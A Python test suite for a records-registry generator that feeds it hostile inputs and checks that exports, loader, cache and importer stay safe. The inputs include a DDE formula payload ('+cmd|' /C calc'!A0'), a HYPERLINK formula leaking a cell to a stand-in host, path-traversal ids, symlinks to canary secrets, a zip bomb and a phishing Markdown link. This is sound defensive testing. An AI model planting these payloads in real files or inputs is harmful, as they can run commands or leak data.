"""Hostile records: what a pull request's author could try, and what must hold.

Runs the corpus in ``tests/hostile/`` (see its README): formulas that must stay
text in the ledger and open data, files outside the registry reached through
symlinks, a cache fooled by an edit that keeps size and time, the litter of
killed builds, and the fuzz inputs that once broke the gate.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator.cli import main
from generator.load.yamlfile import load_file
from generator.render.site import build as site_build
from generator.render.site import opendata
from generator.render.site.data import build_site_data
from generator.validate.engine import validate
from tests.conftest import REPO, make_registry
from tests.validate.test_fuzz import check_gate_survives

HOSTILE = Path(__file__).parent / "hostile"
CANARY = "CANARY7731"
DAY = ["--date", "2023-06-01"]
BIO = '=HYPERLINK("http://x.example/?d="&A1,"点击查看")'
DESCRIPTION = "+cmd|' /C calc'!A0"


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out + captured.err


# ------------------------------------------------------------------ formulas


@pytest.fixture
def formula_registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return make_registry(tmp_path, HOSTILE / "formula-text")


def test_free_text_that_looks_like_a_formula_passes_the_gate(formula_registry: Path) -> None:
    # A biography may start with anything; it is the exports' job to keep it text.
    assert validate(formula_registry, today=date(2023, 6, 1), jobs=1).result.errors == []


def test_xlsx_ledger_has_no_formula_cell(formula_registry: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = formula_registry.parent / "ledger.xlsx"
    assert _run(capsys, "export", "--no-cache", *DAY, "--out", str(out))[0] == 0
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    assert BIO in texts and DESCRIPTION in texts, "the text itself is kept, as text"
    assert texts[BIO].data_type == "s" and texts[BIO].quotePrefix


def test_csv_ledger_neutralises_formulas(formula_registry: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(capsys, "export", "--no-cache", *DAY, "--format", "csv", "--out", str(formula_registry.parent / "l.csv"))[0] == 0
    cells = [cell for path in formula_registry.parent.glob("l-*.csv")
             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
    assert "'" + BIO in cells and "'" + DESCRIPTION in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_open_data_csv_neutralises_formulas_and_json_keeps_the_text(formula_registry: Path) -> None:
    run = validate(formula_registry, today=date(2023, 6, 1), jobs=1)
    folder = formula_registry.parent / "data"
    opendata.write(build_site_data(run.registry, mask_apprentices=True), folder)
    cells = [cell for path in folder.glob("*.csv")
             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
    assert "'" + BIO in cells and "'" + DESCRIPTION in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    masters = json.loads((folder / "masters.json").read_text(encoding="utf-8"))
    assert BIO in [m["bio"] for m in masters], "JSON is data, never evaluated: the text stays as written"


# ------------------------------------------------------------------ symlinks and special files


def _canary_free(text: str) -> None:
    assert CANARY not in text and "aws_secret" not in text


@pytest.mark.parametrize("target", ["master.yml", "other-keys.yml"])
def test_a_symlinked_record_is_refused_and_never_read(registry_dir: Path, capsys: pytest.CaptureFixture[str],
                                                      target: str) -> None:
    link = registry_dir / "masters" / "evil.yml"
    link.symlink_to(HOSTILE / "canary" / target)
    code, out = _run(capsys, "validate", "--no-cache", *DAY)
    assert code == 1
    assert "records/masters/evil.yml: error file.symlink: 这是一个符号链接" in out
    _canary_free(out)
    code, out = _run(capsys, "validate", "--no-cache", "--format", "github", *DAY)
    assert code == 1
    _canary_free(out)


def test_no_output_carries_what_a_symlink_points_at(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (registry_dir / "masters" / "evil.yml").symlink_to(HOSTILE / "canary" / "master.yml")
    work = registry_dir.parent
    outputs = [
        ("build", "--no-cache", *DAY, "--site-dir", str(work / "site"), "--docs-dir", str(work / "docs"),
         "--config", str(REPO / "mkdocs.yml")),
        ("export", "--no-cache", *DAY, "--out", str(work / "ledger.xlsx")),
        ("forms", "--no-cache", *DAY, "--out", str(work / "forms")),
    ]
    for argv in outputs:
        code, out = _run(capsys, *argv)
        assert code == 1, argv
        _canary_free(out)
    written = [p for p in work.rglob("*") if p.is_file() and "records" not in p.relative_to(work).parts]
    assert written == [], "nothing is written from a registry with a symlink"


def test_a_symlinked_folder_is_refused(registry_dir: Path, tmp_path_factory: pytest.TempPathFactory,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path_factory.mktemp("outside")
    shutil.copy(HOSTILE / "canary" / "master.yml", outside / "evil.yml")
    (registry_dir / "masters" / "more").symlink_to(outside, target_is_directory=True)
    code, out = _run(capsys, "validate", "--no-cache", *DAY)
    assert code == 1 and "records/masters/more: error file.symlink" in out
    _canary_free(out)


def test_a_symlinked_records_folder_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    real = make_registry(tmp_path / "elsewhere")
    (tmp_path / "records").symlink_to(real, target_is_directory=True)
    code, out = _run(capsys, "validate", "--no-cache", *DAY)
    assert code == 1 and "records: error file.symlink" in out


def test_a_fifo_is_refused_without_waiting_on_it(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    os.mkfifo(registry_dir / "units" / "pipe.yml")
    code, out = _run(capsys, "validate", "--no-cache", *DAY)
    assert code == 1 and "records/units/pipe.yml: error file.not_regular" in out


def test_the_loader_never_follows_a_link_swapped_in_after_discovery(tmp_path: Path) -> None:
    link = tmp_path / "swapped.yml"
    link.symlink_to(HOSTILE / "canary" / "master.yml")
    loaded = load_file(str(link), "records/masters/swapped.yml")
    assert loaded.document is None
    assert [d.rule for d in loaded.diagnostics] == ["file.read"]
    _canary_free(loaded.diagnostics[0].message)


# ------------------------------------------------------------------ the cache


def test_an_edit_keeping_size_and_time_is_checked_again(registry_dir: Path, capsys: pytest.CaptureFixture[str],
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CI", raising=False)  # the cache is what is under test
    record = registry_dir / "masters" / "teacher.yml"
    assert _run(capsys, "validate", *DAY)[0] == 0
    before = record.stat()
    text = record.read_text(encoding="utf-8")
    record.write_text(text.replace("gender: 男", "gender: 狗"), encoding="utf-8")  # same number of bytes
    os.utime(record, ns=(before.st_atime_ns, before.st_mtime_ns))  # what `touch -r` does
    assert record.stat().st_size == before.st_size and record.stat().st_mtime_ns == before.st_mtime_ns
    code, out = _run(capsys, "validate", *DAY)
    assert code == 1 and "records/masters/teacher.yml:3:9: error schema" in out


@pytest.fixture
def reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The record files the cache reads and hashes (the ones it does not take by their stamp)."""
    from generator.validate import cache

    read: list[str] = []
    real = cache.content_digest
    monkeypatch.setattr(cache, "content_digest", lambda path: read.append(Path(path).name) or real(path))
    return read


def test_an_edit_keeping_size_and_time_is_checked_again_after_the_file_was_stamped(
        registry_dir: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, reads: list[str]) -> None:
    """A file whose stamp (inode, size, modification and change times) is as recorded is not read again; an edit in
    place that keeps the size and puts the modification time back (``touch -r``) still moves the change time."""
    from generator.validate import cache

    monkeypatch.delenv("CI", raising=False)
    monkeypatch.setattr(cache, "RACY_NS", 0)  # the files were written just now: stamp them all the same
    assert _run(capsys, "validate", *DAY)[0] == 0
    assert reads
    reads.clear()
    assert _run(capsys, "validate", *DAY)[0] == 0
    assert reads == []  # every file taken by its stamp
    record = registry_dir / "masters" / "teacher.yml"
    before = record.stat()
    time.sleep(0.05)  # past the clock's tick: the change time is another
    record.write_text(record.read_text(encoding="utf-8").replace("gender: 男", "gender: 狗"), encoding="utf-8")
    os.utime(record, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert record.stat().st_size == before.st_size and record.stat().st_mtime_ns == before.st_mtime_ns
    code, out = _run(capsys, "validate", *DAY)
    assert code == 1 and "records/masters/teacher.yml:3:9: error schema" in out
    assert reads == ["teacher.yml"]


def test_a_file_changed_just_before_it_was_read_gets_no_stamp(registry_dir: Path, capsys: pytest.CaptureFixture[str],
                                                              monkeypatch: pytest.MonkeyPatch, reads: list[str]) -> None:
    """Written within the last two seconds, a file could change again within the same tick of the clock: it is read
    and hashed at the next run too ("racily clean", as git says)."""
    monkeypatch.delenv("CI", raising=False)
    assert _run(capsys, "validate", *DAY)[0] == 0
    count = len(reads)
    reads.clear()
    assert _run(capsys, "validate", *DAY)[0] == 0
    assert len(reads) == count > 0


def test_a_cache_inside_the_checkout_is_never_read(registry_dir: Path, capsys: pytest.CaptureFixture[str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """A pull request can add files to the checkout, so the cache is not kept there."""
    monkeypatch.delenv("CI", raising=False)
    record = registry_dir / "masters" / "teacher.yml"
    record.write_text(record.read_text(encoding="utf-8").replace("gender: 男", "gender: 狗"), encoding="utf-8")
    planted = registry_dir.parent / ".jiangpu-cache"
    planted.mkdir()
    (planted / "validate-0000000000000000.json").write_text('{"masters/teacher.yml": [0, 0, {}, []]}', encoding="utf-8")
    assert _run(capsys, "validate", *DAY)[0] == 1


# ------------------------------------------------------------------ litter of killed builds


def _dead_pid() -> int:
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def test_a_build_removes_what_killed_builds_left_and_its_own_folders_on_failure(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = tmp_path / "site"
    stale = [tmp_path / f".site.new-{_dead_pid()}-abcd", tmp_path / f".site.old-{_dead_pid()}", tmp_path / ".docs.new-x1y2z3"]
    running = tmp_path / f".site.new-{os.getppid()}-live"  # a build that is still running is left alone
    for folder in stale + [running]:
        folder.mkdir()
        (folder / "index.html").write_text("old", encoding="utf-8")

    def failing_render(*args: object, **kwargs: object) -> int:
        raise RuntimeError("simulated failure while rendering")

    monkeypatch.setattr(site_build, "render_docs", failing_render)
    run = validate(make_registry(tmp_path / "reg"), today=date(2023, 6, 1), jobs=1)
    with pytest.raises(RuntimeError):
        site_build.build_site(run.registry, config_file=REPO / "mkdocs.yml", site_dir=site, docs_dir=tmp_path / "docs")
    left = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("."))
    assert left == [running.name]


# ------------------------------------------------------------------ fuzz seeds


@pytest.mark.parametrize("seed", sorted((HOSTILE / "fuzz-seeds").glob("*.yml")), ids=lambda p: p.stem)
def test_fuzz_seed_gives_diagnostics_not_a_traceback(seed: Path) -> None:
    folder, _, _ = seed.stem.partition("--")
    check_gate_survives(f"{folder}/{seed.stem.partition('--')[2]}.yml", seed.read_bytes())


# ------------------------------------------------------------------ photos


def _with_photo(registry_dir: Path, name: str) -> Path:
    master = registry_dir / "masters" / "leader.yml"
    master.write_text(master.read_text(encoding="utf-8") + f"photo: {name}\n", encoding="utf-8")
    (registry_dir / "photos").mkdir(exist_ok=True)
    return registry_dir / "photos" / name


def test_a_symlinked_photo_is_refused_and_never_read(registry_dir: Path, tmp_path_factory: pytest.TempPathFactory,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    from PIL import Image

    outside = tmp_path_factory.mktemp("outside") / "secret.jpg"
    Image.new("RGB", (400, 400), "red").save(outside)
    _with_photo(registry_dir, "leader.jpg").symlink_to(outside)
    code, out = _run(capsys, "validate", "--no-cache", *DAY)
    assert code == 1
    assert "records/masters/leader.yml:9:8: error photo.file: 照片 records/photos/leader.jpg 不是普通文件" in out


def test_published_photos_carry_no_metadata(registry_dir: Path) -> None:
    """A phone photo's EXIF (GPS position, camera, a note) never reaches the site; its orientation is applied."""
    from PIL import Image

    from generator.render.site.photos import publish

    exif = Image.Exif()
    exif[0x010E] = CANARY  # ImageDescription
    exif[0x0110] = "CanaryPhone 9"  # Model
    exif[0x0112] = 6  # Orientation: rotated 90°, to be turned upright
    exif[0x8825] = {1: "N", 2: (30.0, 35.0, 0.0), 3: "E", 4: (114.0, 17.0, 0.0)}  # GPSInfo
    original = _with_photo(registry_dir, "leader.jpg")
    Image.new("RGB", (800, 600), "#884422").save(original, exif=exif, comment=CANARY.encode())
    run = validate(registry_dir, today=date(2023, 6, 1), jobs=1)
    assert not run.result.errors, run.result.errors
    docs = registry_dir.parent / "docs"
    published = publish(run.registry, docs)["masters/leader"]
    for name in (published.src, published.thumb):
        data = (docs / name).read_bytes()
        assert CANARY.encode() not in data and b"CanaryPhone" not in data and b"Exif" not in data
        with Image.open(docs / name) as image:
            assert not image.getexif() and "comment" not in image.info
            assert image.height > image.width  # turned upright from 800 × 600
    assert (published.width, published.thumb_width) == (480, 160)


# ------------------------------------------------------------------ ids that would be paths


def _pwned_anywhere(*folders: Path) -> list[Path]:
    return [p for folder in folders if folder.exists() for p in folder.rglob("*") if "PWNED" in p.name or p.name == "x.yml"]


@pytest.mark.parametrize("write", [False, True], ids=["dry-run", "write"])
def test_a_ledger_id_never_becomes_a_path_outside_the_records(registry_dir: Path, capsys: pytest.CaptureFixture[str],
                                                              monkeypatch: pytest.MonkeyPatch, write: bool) -> None:
    """编号 ``../../../../elsewhere/PWNED``, ``/tmp/…/PWNED`` and ``PWNED/../../x``: refused as ids, in the
    dry run too; the good row beside them still imports; the dry run's copy is gone afterwards."""
    scratch = registry_dir.parent / "tmp"
    scratch.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch))
    outside = Path("/tmp/jiangpu-elsewhere")
    shutil.rmtree(outside, ignore_errors=True)
    code, out = _run(capsys, "import", str(HOSTILE / "ledgers" / "traversal-ids.csv"), "--kind", "master", "--no-cache", *DAY,
                     *(["--write"] if write else []))
    assert code == 1
    assert out.count("import.id") == 3 and "编号“../../../../elsewhere/PWNED”不合规" in out
    assert "Traceback" not in out
    assert not outside.exists() and not Path("/elsewhere").exists()
    assert _pwned_anywhere(registry_dir.parent, scratch) == []
    assert list(scratch.iterdir()) == [], "the dry run's copy of the registry is removed"
    assert (registry_dir / "masters" / "zhang-good.yml").exists() is write


def test_write_atomically_refuses_a_target_outside_its_root(tmp_path: Path) -> None:
    from generator.files import OutsideRoot, write_atomically

    (tmp_path / "records").mkdir()
    with pytest.raises(OutsideRoot):
        write_atomically(tmp_path / "records" / ".." / "x.yml", b"x", root=tmp_path / "records")
    (tmp_path / "records" / "out").symlink_to(tmp_path, target_is_directory=True)
    with pytest.raises(OutsideRoot):
        write_atomically(tmp_path / "records" / "out" / "x.yml", b"x", root=tmp_path / "records")
    assert not (tmp_path / "x.yml").exists()


def test_an_import_stopped_by_sigterm_leaves_no_temporary_copy(registry_dir: Path, tmp_path: Path) -> None:
    """A long dry run killed by the terminal or CI's time limit removes its copy of the registry."""
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    ledger = tmp_path / "big.csv"
    rows = [f"m-{n},某{n},男,1980,works,钳工,技师" for n in range(3000)]
    ledger.write_text("编号,姓名,性别,出生年份,所在单位,工种,技术等级\n" + "\n".join(rows) + "\n", encoding="utf-8")
    env = {**os.environ, "TMPDIR": str(scratch), "PYTHONPATH": str(REPO)}
    process = subprocess.Popen([sys.executable, "-m", "generator", "import", str(ledger), "--kind", "master", "--no-cache", *DAY],
                               cwd=registry_dir.parent, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    import time

    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not any(scratch.glob("jiangpu-import-*/records/masters/m-*.yml")):
        time.sleep(0.05)
    assert any(scratch.glob("jiangpu-import-*")), "the import never reached its temporary copy"
    process.terminate()
    _, err = process.communicate(timeout=60)
    assert process.returncode != 0 and b"Traceback" not in err
    assert list(scratch.iterdir()) == []


@pytest.mark.parametrize("name", ["truncated-half.jpg", "truncated-eoi.jpg"])
def test_a_truncated_photo_is_refused_even_after_weasyprint_is_loaded(name: str) -> None:
    """WeasyPrint turns on Pillow's process-wide LOAD_TRUNCATED_IMAGES; the gate must not inherit it."""
    import weasyprint  # noqa: F401  (what build, serve and forms import)
    from PIL import ImageFile

    from generator.validate.rules.photo import image_problem

    assert ImageFile.LOAD_TRUNCATED_IMAGES
    problem = image_problem((HOSTILE / "photos" / name).read_bytes(), f"records/photos/{name}")
    assert problem is not None and "不是完整可读" in problem
    assert ImageFile.LOAD_TRUNCATED_IMAGES, "put back as WeasyPrint wants it"


def test_publishing_photos_never_raises_on_a_broken_one(registry_dir: Path, tmp_path: Path) -> None:
    """A photo broken after the gate ran (serve, while an upload is still being copied) is left out of
    the pages; it never stops the build with ``OSError: image file is truncated``."""
    from generator.render.site.photos import publish

    (registry_dir / "photos").mkdir(exist_ok=True)
    shutil.copy(HOSTILE / "photos" / "truncated-half.jpg", registry_dir / "photos" / "cut.jpg")
    master = registry_dir / "masters" / "teacher.yml"
    master.write_text(master.read_text(encoding="utf-8") + "photo: cut.jpg\n", encoding="utf-8")
    registry = validate(registry_dir, today=date(2023, 6, 1), jobs=1).registry
    assert registry.masters["teacher"].photo == "cut.jpg"
    assert "masters/teacher" not in publish(registry, tmp_path / "docs")


# ------------------------------------------------------------------ control characters


CONTROL_LEADER = HOSTILE / "control-characters"


def test_control_characters_are_text_control_in_validate_and_import(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.copytree(CONTROL_LEADER / "records", registry_dir, dirs_exist_ok=True)
    code, out = _run(capsys, "validate", "--no-cache", *DAY)
    assert code == 1 and out.count("text.control") == 3, out
    assert "\x1b" not in out and "\u202e" not in out, "the message names the character, never prints it"
    ledger = registry_dir.parent / "ledger.csv"
    ledger.write_text("编号,姓名,性别,出生年份,所在单位,工种,技术等级\nesc-man,\"王\x1b[2J五\",男,1980,works,钳工,技师\n", encoding="utf-8")
    code, out = _run(capsys, "import", str(ledger), "--kind", "master", "--no-cache", *DAY, "--write")
    assert code == 1 and "text.control" in out and "U+001B ESC" in out
    assert not (registry_dir / "masters" / "esc-man.yml").exists()


def test_feeds_and_word_files_stay_well_formed_whatever_reaches_them(registry_dir: Path, tmp_path: Path) -> None:
    """Behind the gate: even a record with ESC, NUL and U+202E in its names gives parseable Atom and DOCX."""
    import xml.etree.ElementTree as ET

    from generator.render.forms.definitions import pair_forms
    from generator.render.forms.docx_writer import write as write_docx
    from generator.render.site import feeds

    shutil.copytree(CONTROL_LEADER / "records", registry_dir, dirs_exist_ok=True)
    registry = validate(registry_dir, today=date(2023, 6, 1), jobs=1).registry
    assert "\x1b" in registry.masters["leader"].name
    site = build_site_data(registry, site_url="https://example.org/")
    for path in feeds.write(site, tmp_path / "feeds"):
        ET.parse(path)  # raises on a control character
    assert "\x1b" not in (tmp_path / "feeds" / "honours.xml").read_text(encoding="utf-8")
    pair = registry.pairs["base-pair"]
    for form in pair_forms(pair, registry):
        write_docx(form, tmp_path / f"{form.id}.docx", east_asia="Noto Serif CJK SC", latin="Noto Serif")
        assert (tmp_path / f"{form.id}.docx").stat().st_size > 0


# ------------------------------------------------------------------ lengths and sizes


def test_a_100000_character_name_is_refused_without_being_printed_back(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    record = registry_dir / "masters" / "teacher.yml"
    record.write_text(record.read_text(encoding="utf-8").replace("name: ", "name: " + "长" * 100_000, 1), encoding="utf-8")
    code, out = _run(capsys, "validate", "--no-cache", *DAY)
    assert code == 1 and "records/masters/teacher.yml:2:7: error schema" in out and "最多 30 个字，这里有 100" in out
    assert len(out) < 5_000, "the value is not echoed whole"


def _import(ledger: Path, cwd: Path) -> tuple[subprocess.CompletedProcess[str], float, int]:
    """``import`` in a process of its own: its time, and its own peak memory in MB (wait4's rusage)."""
    import time

    out, err = cwd / "import.out", cwd / "import.err"
    command = [sys.executable, "-m", "generator", "import", str(ledger), "--kind", "master", "--no-cache", *DAY]
    # Started from a small launcher, not from this process: a child forked from pytest starts its
    # peak memory at pytest's own size (Linux carries it over the fork), whatever the command does.
    launcher = ("import os, sys; pid = os.fork()\n"
                "if pid == 0: os.execv(sys.argv[1], sys.argv[1:])\n"
                "_, status, usage = os.wait4(pid, 0); print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)")
    started = time.monotonic()
    with open(err, "w") as stderr:
        launched = subprocess.run([sys.executable, "-c", launcher, *command], cwd=cwd, env={**os.environ, "PYTHONPATH": str(REPO)},
                                  stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=stderr, text=True, check=True)
    seconds = time.monotonic() - started
    lines = launched.stdout.splitlines()
    code, peak = (int(part) for part in lines[-1].split())
    stdout_text = "\n".join(lines[:-1]) + ("\n" if len(lines) > 1 else "")
    out.write_text(stdout_text)
    done = subprocess.CompletedProcess(command, code, stdout_text, err.read_text())
    return done, seconds, peak // 1024


def test_a_zip_bomb_ledger_is_refused_at_once_with_bounded_memory(registry_dir: Path) -> None:
    """300 MB of XML in a 300 KB .xlsx: refused from the zip directory before openpyxl parses a byte."""
    done, seconds, peak = _import(HOSTILE / "ledgers" / "zip-bomb.xlsx", registry_dir.parent)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "Excel 文件解压后有 300 MB，超过 60 MB" in done.stderr
    assert seconds < 5 and peak < 400, (seconds, peak)


@pytest.mark.parametrize("name", ["xml-entity.xlsx", "entity-bomb.xlsx"])
def test_xml_entity_tricks_are_an_unreadable_excel_file(registry_dir: Path, name: str) -> None:
    done, _, _ = _import(HOSTILE / "ledgers" / name, registry_dir.parent)
    assert done.returncode == 1 and "Traceback" not in done.stderr and "root:" not in done.stdout
    assert "无法读取 Excel 文件" in done.stderr


def test_ledger_rows_and_cells_are_bounded(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    header = "编号,姓名,性别,出生年份,所在单位,工种,技术等级\n"
    many = registry_dir.parent / "many.csv"
    many.write_text(header + "".join(f"m-{n},某{n},男,1980,works,钳工,技师\n" for n in range(20_100)), encoding="utf-8")
    code, out = _run(capsys, "import", str(many), "--kind", "master", "--no-cache", *DAY)
    assert code == 1 and "超过 20000 行" in out
    long_cell = registry_dir.parent / "long.csv"
    long_cell.write_text(header + "long-bio,某人,男,1980,works,钳工,技师\n".replace("某人", "某" * 20_000), encoding="utf-8")
    code, out = _run(capsys, "import", str(long_cell), "--kind", "master", "--no-cache", *DAY)
    assert code == 1 and "import.cell" in out and "一格最多 10000 个字" in out


# ------------------------------------------------------------------ Markdown the project writes


PHISHING = "测[领补贴](https://evil.example/x)![](https://t.example/p.gif)<img src=x>@admin`厂"


def test_the_reminder_issue_carries_record_text_inert(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A merged record's name can put no link, tracking image, HTML or @-mention into the bot's issue."""
    from markdown_it import MarkdownIt

    unit = registry_dir / "units" / "other-works.yml"
    unit.write_text(unit.read_text(encoding="utf-8").replace("name: 测试电机厂", f"name: '{PHISHING}'"), encoding="utf-8")
    code, out = _run(capsys, "validate", "--no-cache", "--date", "2024-12-01")
    assert " error " not in out, out
    code, body = _run(capsys, "due", "--no-cache", "--date", "2024-12-01", "--format", "markdown")
    assert code == 0 and "evil.example" in body, "the name is there, as text"
    html = MarkdownIt("commonmark", {"html": True}).render(body)
    assert "<a " not in html and "<img" not in html, html
    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    assert "@" not in outside_code and "evil.example" not in outside_code
